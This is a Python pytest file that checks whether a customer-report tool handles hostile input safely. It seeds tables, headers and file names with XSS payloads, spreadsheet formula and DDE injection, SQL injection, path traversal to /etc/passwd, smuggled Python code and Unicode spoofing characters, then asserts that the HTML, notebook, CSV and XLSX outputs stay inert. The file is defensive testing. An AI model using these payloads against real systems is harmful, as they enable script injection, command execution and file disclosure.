"""Hostile text in every text field of every table: the reports show it and do nothing with it."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import nbformat
import openpyxl
import pandas as pd
import pytest
from bs4 import BeautifulSoup

from analysis.language import LANGUAGES
from analysis.tables.schema import TABLES

POLICY = "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
TEXTS = [
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "</td></table></main></body><h1 onclick=alert(1)>x</h1>",
    "<a href='javascript:alert(1)'>x</a> <iframe src=//example.org></iframe>",
    '=HYPERLINK("https://example.org/"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1;=2+2",
    "\t=1+1",
    "[link](javascript:alert(1)) ![x](https://example.org/x.png) # **bold** | a | b |",
    "../../../etc/passwd",
    "\u202egpj.exe\u200f\u2066",
    "{{ 7 * 7 }} {% raw %} { $rows } ${x} %s %(x)s {0}",
    "'); DROP TABLE judged; --",
    '"""\nimport os; os.mkdir("owned")\n"""',
    "--><script>alert(1)</script> ]]>",
    "&lt;b&gt; \x1b[31m\x07 \\ \\n \\u003cscript\\u003e",
]
# fmt: off
ELEMENTS = {
    "html", "head", "meta", "title", "link", "style", "body", "a", "header", "div", "nav", "ol", "ul", "li", "p", "main",
    "section", "h1", "h2", "h3", "h4", "span", "table", "caption", "thead", "tbody", "tr", "th", "td", "code", "pre",
    "details", "summary", "figure", "img", "em", "strong", "footer", "dl", "dt", "dd", "br",
    "svg", "g", "path", "text", "tspan", "use", "defs", "clippath", "rect",
    "polyline", "circle",
}
# fmt: on


def side_table(name: str, customers: list[str]) -> list[dict[str, str]]:
    """One row a customer, hostile in each column of text; a row for each text goes also where another kind is due."""
    rows = []
    for number, customer in enumerate(customers):
        text = TEXTS[number % len(TEXTS)]
        row = {"customer_id": customer, "<b onclick=x>": text}
        for column in TABLES[name].columns:
            hostile = number % 3 == 0 and not column.required
            if column.name == "customer_id":
                continue
            if column.kind == "text" and (hostile or not column.allowed):
                row[column.name] = text
            elif column.allowed:
                row[column.name] = column.allowed[0]
            elif hostile:
                row[column.name] = text
            else:
                row[column.name] = {"date": "2024-05-17", "flag": "no"}.get(column.kind, "1")
        rows.append(row)
    return rows


def sales(customers: list[str]) -> list[dict[str, str]]:
    rows = []
    for number, customer in enumerate(customers):
        text = TEXTS[number % len(TEXTS)]
        for month in range(1, 2 + number % 9):
            row = {"customer_id": customer, "date": f"2024-{month:02d}-1{number % 10}"}
            row |= {"net_amount": f"{100 + 7 * number + month}.50", "document_id": f"{text}{number}/{month}"}
            row |= {"product": text, "category": text, "channel": text, "cost_of_goods": "60", "=1+1<script>": text}
            rows.append(row)
    unreadable = {"date": TEXTS[0], "net_amount": TEXTS[1], "document_id": TEXTS[2]}
    return rows + [rows[0] | {name: text} for name, text in unreadable.items()]


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of eight files with hostile names, headers and cells."""
    folder = tmp_path_factory.mktemp("source") / "=A1 <b onclick=x> '\"; import os; os.mkdir('owned') # \u202e"
    folder.mkdir()
    customers = [f"{TEXTS[n % len(TEXTS)]}{n}" for n in range(40)]
    for name in TABLES:
        rows = sales(customers) if name == "transactions" else side_table(name, customers)
        frame = pd.DataFrame(rows)
        frame.to_csv(folder / f"{name} <img src=x onerror=alert(1)> '\u202e.csv", index=False, encoding="utf-8")
    (folder / "=unused <script>.txt").touch()
    return folder


@pytest.fixture(scope="module")
def run(source: Path, report: Callable[..., Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    options = (
        "--lang",
        "de",
        "--lang",
        "en",
        "--set",
        "amount_per=line",
        "--set",
        "names_in_exports=true",
        "--set",
        "list_length=40",
    )
    return report(source, *options, out=tmp_path_factory.mktemp("out"))


def assert_inert(html: str) -> None:
    soup = BeautifulSoup(html, "html.parser")
    for element in soup.find_all(True):
        assert element.name in ELEMENTS
        assert not [name for name in element.attrs if name.startswith("on") or name in ("srcdoc", "action", "srcset")]
        assert str(element.get("src", "data:image/")).startswith("data:image/")
        address = str(element.get("href", ""))
        if ":" in address:
            assert address == "data:," or address.startswith("https://doi.org/")
        assert not address.startswith("//")
    assert "\u202e" not in html


@pytest.mark.slow
def test_every_text_reached_the_reports(run: Path) -> None:
    page = BeautifulSoup((run / "en" / "1_customer_description.html").read_text(encoding="utf-8"), "html.parser")
    shown = " ".join(page.get_text().split())
    for text in TEXTS:
        # As text, but for signs that would act on their surroundings, and the blanks that HTML folds.
        plain = "".join(sign for sign in text if sign.isprintable() or sign.isspace())
        assert max(plain.split(), key=len).strip("\u202e\u200f\u2066") in shown, text
    assert "&lt;script&gt;" in (run / "de" / "0_data_basis.html").read_text(encoding="utf-8")


@pytest.mark.slow
def test_the_pages_are_inert(run: Path) -> None:
    pages = [run.parents[1] / "index.html", *run.rglob("*.html")]
    assert len(pages) >= 10
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert_inert(html)
        soup = BeautifulSoup(html, "html.parser")
        assert soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"] == POLICY
        assert len(soup.find_all("main")) == len(soup.find_all("h1")) == 1
        assert soup.body.find_all("style") == []


@pytest.mark.slow
@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_outputs_of_the_notebooks_are_inert(run: Path, lang: str) -> None:
    found = 0
    for path in (run / lang).glob("*.ipynb"):
        for cell in nbformat.read(path, as_version=4).cells:
            for output in cell.get("outputs", []):
                data: dict[str, Any] = output.get("data", {})
                assert not {"text/markdown", "text/latex", "application/javascript"} & set(data)
                if "text/html" in data:
                    assert_inert(data["text/html"])
                    found += 1
                if "image/svg+xml" in data:
                    elements = {
                        element.tag.rpartition("}")[2]
                        for element in ElementTree.fromstring(data["image/svg+xml"]).iter()
                    }
                    assert not {"script", "a", "image", "foreignObject"} & elements
    assert found > 10


@pytest.mark.slow
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_export_is_a_formula(run: Path, delimiter: str) -> None:
    text = (run / "customers.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    cells = [cell for row in rows for cell in row]
    if delimiter == ";":  # a German run writes for a German spreadsheet
        assert {len(row) for row in rows} == {len(rows[0])}
        assert sum("HYPERLINK" in cell for cell in cells) > 2
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))] == []


@pytest.mark.slow
def test_no_cell_of_the_workbook_is_a_formula_or_a_link(run: Path) -> None:
    book = openpyxl.load_workbook(run / "actions.xlsx")
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert any(str(cell.value).startswith("=HYPERLINK") for cell in cells)
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []


@pytest.mark.slow
def test_parquet_gives_every_identifier_back_as_it_was(run: Path) -> None:
    index = pd.read_parquet(run / "customers.parquet").index
    assert len(index) == 40
    assert sum(identifier.startswith("=HYPERLINK") for identifier in index) == 3


@pytest.mark.slow
def test_nothing_was_executed_and_nothing_left_its_folder(run: Path, source: Path) -> None:
    out = run.parents[1]
    assert [path.name for path in out.iterdir() if path.is_dir()] == [run.parent.name]
    assert {path.name for path in out.parent.iterdir() if path.name == "owned"} == set()
    assert not list(out.rglob("owned"))
    assert not list(source.rglob("owned"))
    assert not Path("owned").exists()


def test_the_terminal_shows_hostile_text_as_text(kundenwert: Callable[..., Any], source: Path) -> None:
    # All lines of a document have the same amount here: whether that is its total is a question.
    result = kundenwert("check", source, "--set", "amount_per=line")
    assert result.exit_code == 0
    assert "script" in result.output
    assert not {"\x1b", "\x07", "\u202e", "\u200f"} & set(result.output)


@pytest.mark.parametrize(
    "name", ["../../x", "..", ".", "", "/x", "a/b", "a\\b", "...", " - ", "index.html", "index.de.html"]
)
def test_a_name_that_leads_out_of_its_folder_is_refused(
    name: str, kundenwert: Callable[..., Any], tmp_path: Path
) -> None:
    out = tmp_path / "a" / "b" / "out"
    result = kundenwert("report", "demo", "--name", name, "--out", out)
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["-.csv", "- -.csv"])
def test_a_file_that_lends_no_name_asks_for_one(name: str, kundenwert: Callable[..., Any], tmp_path: Path) -> None:
    (tmp_path / name).write_text("customer_id,date,net_amount\nA,2024-01-31,5\n", encoding="utf-8")
    result = kundenwert("report", tmp_path / name, "--out", tmp_path / "out")
    assert result.exit_code == 2
    assert not (tmp_path / "out").exists()
